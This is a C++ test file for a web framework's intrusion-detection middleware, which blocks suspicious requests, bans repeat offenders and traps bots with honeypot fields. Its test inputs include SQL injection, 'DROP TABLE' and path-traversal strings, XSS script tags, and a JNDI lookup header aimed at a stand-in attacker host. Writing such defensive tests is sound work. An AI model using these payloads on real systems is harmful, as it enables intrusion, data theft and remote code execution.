#include <gtest/gtest.h>

#include "tests/guard/fixture.hpp"

namespace portico::guard {
namespace {

using namespace std::chrono_literals;
using portico::testing::RequestOptions;
using portico::testing::TestClient;
using portico::testing::TestClientOptions;
using testing::Guarded;

constexpr std::string_view kRefused = R"({"detail":"Suspicious activity detected"})";

struct Part {
    model::Annotated<std::string> head = "";
    model::Annotated<std::string, model::unscanned> text = "";
};
struct Article {
    model::Annotated<std::string> title;
    model::Annotated<std::string, model::unscanned, model::alias("html")> text = "";
    model::Annotated<std::vector<Part>> parts = model::empty;
};

struct Comment {
    model::Annotated<std::string> title;
    model::Annotated<std::string> text;
};

void add_routes(app::App& app) {
    app.post("/comments", [](Comment comment) { return comment.title; });
    app.post("/form", [](app::Form<std::string, "name"> name) { return *name; });
    app.post("/upload", [](app::File<"file"> file, app::Form<std::string, "note"> note) {
        return *note + std::to_string(file->size());
    });
    app.post("/raw", [](http::Request& request) -> core::Task<std::string> {
        std::string all;
        for (;;) {
            const auto piece = co_await request.read_some();
            if (piece.empty()) co_return all;
            all += piece;
        }
    });
    app.post("/unscanned", [](Comment comment) { return comment.title; },
             {.access = {.unscanned_fields = {"text"}}});
    app.post("/articles", [](Article article) { return article.title; });
    app.post("/annotated-form",
             [](app::Form<model::Annotated<std::string, model::unscanned>, "text"> text,
                app::Form<std::string, "note"> note) { return *text + *note; });
    app.post("/bypassed", [](Comment comment) { return comment.title; }, {.bypass = {"detection"}});
    app.post("/contact", [](Comment comment) { return comment.title; },
             {.access = {.honeypot_fields = {"website"}}});
    app.post("/contact-form", [](app::Form<std::string, "name"> name) { return *name; },
             {.access = {.honeypot_fields = {"website"}}});
}

class Detection : public ::testing::Test {
protected:
    portico::testing::TestResponse post(std::string_view url, RequestOptions options,
                                        std::size_t chunk = SIZE_MAX,
                                        std::string client = "192.0.2.1") {
        TestClient from(site.app,
                        {.clock = &site.clock, .client = std::move(client), .body_chunk = chunk});
        return from.post(url, std::move(options));
    }

    Guarded site{{.auto_ban_threshold = 1000}, &add_routes};
};

TEST_F(Detection, an_attack_in_the_query_is_refused_without_a_word_of_it) {
    const auto refused = site.get("/?q=%27%20OR%20%271%27%3D%271%27--%20");
    EXPECT_EQ(refused.status_code, 400);
    EXPECT_EQ(refused.text, kRefused);
    EXPECT_EQ(site.events, std::vector<std::string>{"detection blocked"});
    EXPECT_EQ(site.status("/?q=O%27Brien"), 200);
}

TEST_F(Detection, in_the_path_a_header_and_a_cookie_too) {
    EXPECT_EQ(site.status("/%2e%2e/%2e%2e/%2e%2e/etc/passwd"), 400);
    EXPECT_EQ(site.status("/", "192.0.2.1", {{"X-Api-Version", "${jndi:ldap://evil.example/a}"}}),
              400);
    EXPECT_EQ(site.status("/", "192.0.2.1", {{"Cookie", "a=<script>alert(1)</script>"}}), 400);
    EXPECT_EQ(site.status("/", "192.0.2.1", {{"Cookie", "theme=dark; session=abc"}}), 200);
}

TEST_F(Detection, a_page_of_this_machine_may_ask) {
    EXPECT_EQ(site.status(
                  "/", "192.0.2.1",
                  {{"Referer", "http://127.0.0.1:8000/docs"}, {"Origin", "http://localhost:8000"}}),
              200);
}

TEST_F(Detection, a_json_body_is_looked_at_before_it_is_validated) {
    const auto refused =
        post("/comments", {.json = R"({"title":"1 UNION SELECT password FROM users --","x":1})"});
    EXPECT_EQ(refused.status_code, 400);
    EXPECT_EQ(refused.text, kRefused);
    EXPECT_EQ(post("/comments", {.json = R"({"title":"a union of workers","text":"b"})"}).text,
              R"("a union of workers")");
}

TEST_F(Detection, a_body_that_comes_in_pieces_is_looked_at_too) {
    for (const std::size_t chunk : {1U, 7U, 1000U}) {
        EXPECT_EQ(
            post("/comments", {.json = R"({"title":"<script>alert(1)</script>","text":""})"}, chunk)
                .status_code,
            400)
            << chunk;
        const std::string body = std::string(300, 'x') + "<script>alert(1)</script>";
        EXPECT_EQ(
            post("/raw", {.headers = {{"Content-Type", "text/plain"}}, .content = body}, chunk)
                .status_code,
            400)
            << chunk;
    }
}

TEST_F(Detection, forms_are_looked_at) {
    EXPECT_EQ(post("/form", {.data = {{"name", "'; DROP TABLE users; --"}}}).status_code, 400);
    EXPECT_EQ(post("/form", {.data = {{"name", "O'Brien & Sons"}}}).text, R"("O'Brien & Sons")");
}

std::string multipart(const std::string& file_name, const std::string& file,
                      const std::string& note) {
    return "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + file_name +
           "\"\r\n\r\n" + file +
           "\r\n--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n" + note +
           "\r\n--b--\r\n";
}

TEST_F(Detection, an_attack_does_not_hide_behind_a_large_file) {
    const auto send = [&](const std::string& body, std::size_t chunk) {
        return post("/upload",
                    {.headers = {{"Content-Type", "multipart/form-data; boundary=b"}},
                     .content = body},
                    chunk)
            .status_code;
    };
    const std::string large(200'000, 'x');
    for (const std::size_t chunk : {std::size_t{SIZE_MAX}, std::size_t{10'000}}) {
        EXPECT_EQ(send(multipart("a.txt", large, "<script>alert(1)</script>"), chunk), 400);
        EXPECT_EQ(send(multipart("a.txt", large, "a note"), chunk), 200);
        EXPECT_EQ(send(multipart("a.txt", "<script>alert(1)</script>", "a note"), chunk), 200)
            << "what is in a file is not for us to judge";
    }
}

TEST_F(Detection, a_body_without_a_route_is_looked_at_before_the_404) {
    for (const std::size_t chunk : {std::size_t{SIZE_MAX}, std::size_t{5}}) {
        EXPECT_EQ(
            post("/nowhere", {.json = R"({"a":"<script>alert(1)</script>"})"}, chunk).status_code,
            400);
        EXPECT_EQ(post("/nowhere", {.json = R"({"a":"b"})"}, chunk).status_code, 404);
    }
}

TEST_F(Detection, fields_of_a_route_can_be_left_out) {
    EXPECT_EQ(post("/unscanned", {.json = R"({"title":"a","text":"<script>alert(1)</script>"})"})
                  .status_code,
              200);
    EXPECT_EQ(post("/unscanned", {.json = R"({"title":"<script>alert(1)</script>","text":"a"})"})
                  .status_code,
              400);
    EXPECT_EQ(post("/bypassed", {.json = R"({"title":"<script>alert(1)</script>","text":"a"})"})
                  .status_code,
              200);
}

TEST_F(Detection, members_that_are_annotated_so_are_left_out) {
    const auto article = [&](const char* json) { return post("/articles", {.json = json}); };
    EXPECT_EQ(article(R"({"title": "a", "html": "<script>alert(1)</script>"})").status_code, 200);
    EXPECT_EQ(
        article(R"({"title": "a", "parts": [{"text": "<script>alert(1)</script>"}]})").status_code,
        200);
    EXPECT_EQ(article(R"({"title": "<script>alert(1)</script>"})").status_code, 400);
    EXPECT_EQ(
        article(R"({"title": "a", "parts": [{"head": "<script>alert(1)</script>"}]})").status_code,
        400);
    const portico::testing::Pairs attack_in_text{{"text", "<script>alert(1)</script>"},
                                                 {"note", "x"}};
    EXPECT_EQ(post("/annotated-form", {.data = attack_in_text}).status_code, 200);
    const portico::testing::Pairs attack_in_note{{"text", "x"},
                                                 {"note", "<script>alert(1)</script>"}};
    EXPECT_EQ(post("/annotated-form", {.data = attack_in_note}).status_code, 400);
}

TEST_F(Detection, bytes_that_are_no_utf8_do_not_end_it) {
    EXPECT_EQ(post("/comments",
                   {.json = "{\"title\":\"\xff\xfe <script>alert(1)</script>\",\"text\":\"\"}"})
                  .status_code,
              400);
}

TEST_F(Detection, a_field_that_people_do_not_see_is_a_honeypot) {
    EXPECT_EQ(post("/contact", {.json = R"({"title":"a","text":"b","website":"x"})"}).status_code,
              403);
    EXPECT_EQ(post("/contact", {.json = R"({"title":"a","text":"b","website":""})"}).status_code,
              200);
    EXPECT_EQ(post("/contact-form", {.data = {{"name", "a"}, {"website", "x"}}}).status_code, 403);
    EXPECT_EQ(post("/contact-form", {.data = {{"name", "a"}, {"website", ""}}}).status_code, 200);
    const auto form =
        "--b\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\na\r\n"
        "--b\r\nContent-Disposition: form-data; name=\"website\"\r\n\r\nx\r\n--b--\r\n";
    EXPECT_EQ(
        post("/contact-form",
             {.headers = {{"Content-Type", "multipart/form-data; boundary=b"}}, .content = form})
            .status_code,
        403);
    EXPECT_EQ(site.events.back(), "honeypot blocked");
}

TEST(DetectionSettings, can_be_turned_off_and_made_passive) {
    Guarded off({.enable_penetration_detection = false}, &add_routes);
    EXPECT_EQ(off.status("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 200);
    Guarded passive({.passive_mode = true, .auto_ban_threshold = 1}, &add_routes);
    EXPECT_EQ(passive.status("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 200);
    EXPECT_EQ(passive.status("/"), 200) << "nobody is banned";
    EXPECT_EQ(passive.events, std::vector<std::string>{"detection logged"});
}

TEST(DetectionSettings, excluded_paths_and_whitelisted_addresses_are_not_looked_at) {
    Guarded site({.whitelist = {"192.0.2.9"}},
                 [](app::App& app) { app.get("/health", [] { return 1; }); });
    EXPECT_EQ(site.status("/health?q=%3Cscript%3Ealert(1)%3C/script%3E"), 200);
    EXPECT_EQ(site.status("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "192.0.2.9"), 200);
}

TEST(DetectionSettings, what_is_too_much_can_be_refused) {
    Guarded lax({.max_scan_body = 10}, &add_routes);
    Guarded strict({.max_scan_body = 10, .refuse_unscanned = true}, &add_routes);
    const RequestOptions body{.json = R"({"title":"a long enough title","text":"a"})"};
    EXPECT_EQ(TestClient(lax.app).post("/comments", body).status_code, 200);
    EXPECT_EQ(TestClient(strict.app).post("/comments", body).status_code, 400);
    EXPECT_EQ(strict.events, std::vector<std::string>{"detection not scanned"});
}

TEST(Bans, the_request_that_reaches_the_threshold_is_still_400_and_the_next_403) {
    Guarded site({.auto_ban_threshold = 3, .auto_ban_duration = 60});
    for (int i = 0; i < 3; ++i) {
        EXPECT_EQ(site.status("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 400);
    }
    EXPECT_EQ(site.events.back(), "detection banned");
    const auto banned = site.get("/");
    EXPECT_EQ(banned.status_code, 403);
    EXPECT_EQ(banned.text, R"({"detail":"IP address banned"})");
    site.clock.advance(60s);
    EXPECT_EQ(site.status("/"), 200);
}

TEST(Bans, loopback_and_the_proxies_in_front_are_never_banned) {
    Guarded site({.auto_ban_threshold = 1});
    for (int i = 0; i < 3; ++i) {
        EXPECT_EQ(site.status("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "127.0.0.1"), 400);
        EXPECT_EQ(site.status("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "10.0.0.1"), 400);
    }
}

}  // namespace
}  // namespace portico::guard
